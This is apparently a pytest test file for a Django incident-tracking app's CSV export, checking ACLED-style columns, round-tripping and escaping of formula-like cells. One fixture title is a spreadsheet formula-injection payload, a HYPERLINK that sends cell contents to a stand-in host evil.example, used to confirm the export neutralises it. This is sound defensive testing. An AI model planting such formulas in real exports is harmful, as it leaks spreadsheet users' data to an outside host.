import csv
import datetime
import io

import pytest
from django.contrib.gis.geos import Point
from django.urls import reverse

from incidents.models import IncidentSource, Source
from tests.factories import IncidentFactory, SourceFactory

pytestmark = pytest.mark.django_db

URL = reverse("incidents:api-csv")

ACLED_COLUMNS = [
    "event_id_cnty", "event_date", "year", "time_precision", "event_type", "sub_event_type", "actor1",
    "assoc_actor_1", "actor2", "assoc_actor_2", "country", "admin1", "admin2", "location", "latitude",
    "longitude", "geo_precision", "source", "notes", "fatalities", "timestamp",
]  # fmt: skip


def rows_of(response):
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_acled_columns_come_first_then_ours(client, export_incidents):
    response = client.get(URL)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="incidents.csv"'
    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert header[: len(ACLED_COLUMNS)] == ACLED_COLUMNS
    assert {"end_date", "fatalities_low", "fatalities_high", "source_urls", "id"} <= set(header)


# Text columns a spreadsheet could take for a formula; the CSV prefixes such cells with ' (docs/api.md, OpenAPI).
TEXT_COLUMNS = {"title", "notes", "location", "place_reported", "admin1", "admin2", "external_id", "source"}


def spreadsheet_safe(text):
    """What the CSV documents: a text cell starting with =, +, -, @, tab or CR gets a leading single quote."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def test_a_download_read_back_with_csv_round_trips_every_incident(client, export_incidents):
    formula = IncidentFactory(
        published=True,
        title='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        description="-5 killed, says @someone",
        start_date=datetime.date(2017, 1, 1),
        location=Point(-3.2, -40.5, srid=4326),
        place_reported="+near the bridge",
        admin1="\tTab region",
        admin2="\rCR district",
        external_id="=1+1",
        sources=[SourceFactory(publisher="@Wire")],
    )
    incidents = [*export_incidents, formula]
    rows = rows_of(client.get(URL))
    assert [int(row["id"]) for row in rows] == [incident.pk for incident in incidents]
    for row, incident in zip(rows, incidents, strict=True):
        incident.refresh_from_db()
        assert (float(row["longitude"]), float(row["latitude"])) == (incident.location.x, incident.location.y)
        assert row["title"] == spreadsheet_safe(incident.title)
        assert row["notes"] == spreadsheet_safe(incident.description)
        assert row["place_reported"] == spreadsheet_safe(incident.place_reported)
        assert row["admin2"] == spreadsheet_safe(incident.admin2)
        assert row["external_id"] == spreadsheet_safe(incident.external_id or "")
        assert row["event_date"] == incident.start_date.isoformat()
        assert row["end_date"] == incident.end_date.isoformat()
        assert row["year"] == str(incident.start_date.year)
        assert row["time_precision"] == str(incident.date_precision)
        assert row["geo_precision"] == str(incident.location_precision)
        assert row["event_type"] == incident.event_type.name
        assert row["country"] == incident.country.name
        assert row["admin1"] == spreadsheet_safe(incident.admin1)
        assert row["fatalities"] == ("" if incident.fatalities_best is None else str(incident.fatalities_best))
        assert row["timestamp"] == str(int(incident.updated_at.timestamp()))
    palmyra = rows[1]
    assert palmyra["event_id_cnty"] == f"SYR{export_incidents[1].pk}"
    assert (palmyra["actor1"], palmyra["assoc_actor_1"]) == ("Islamic State", "")
    assert (palmyra["actor2"], palmyra["assoc_actor_2"]) == ("Syrian Arab Army", "Liwa al-Quds")
    assert palmyra["source"] == "Syrian Observatory for Human Rights; DW; SANA"
    assert palmyra["source_urls"] == "https://www.dw.com/a-48413223"
    assert palmyra["notes"] == "Fighters attacked army positions, “at least 35” killed."
    assert (palmyra["fatalities_low"], palmyra["fatalities"], palmyra["fatalities_high"]) == ("35", "35", "")
    assert palmyra["location"] == "Palmyra"
    assert rows[2]["country"] == "Iraq"
    # The formula-like cells, exactly; the numbers beside them stay numbers.
    injected = rows[3]
    assert injected["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert (injected["notes"], injected["place_reported"]) == ("'-5 killed, says @someone", "'+near the bridge")
    assert (injected["admin1"], injected["admin2"], injected["external_id"]) == (
        "'\tTab region",
        "'\rCR district",
        "'=1+1",
    )
    assert injected["source"] == "'@Wire"
    assert (injected["longitude"], injected["latitude"]) == ("-3.2", "-40.5")
    assert not any(row[column].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for column in TEXT_COLUMNS)


def test_the_source_column_names_original_reporters_before_publishers_once_each(client, export_incidents):
    aleppo = export_incidents[0]
    sana = Source.objects.get(publisher="SANA")
    dw = Source.objects.get(publisher="DW")
    IncidentSource.objects.create(incident=aleppo, source=dw, original_reporter="SANA")
    IncidentSource.objects.create(incident=aleppo, source=sana, original_reporter="")
    row = rows_of(client.get(URL))[0]
    assert row["source"].endswith("; SANA; DW")
    assert row["source"].count("SANA") == 1
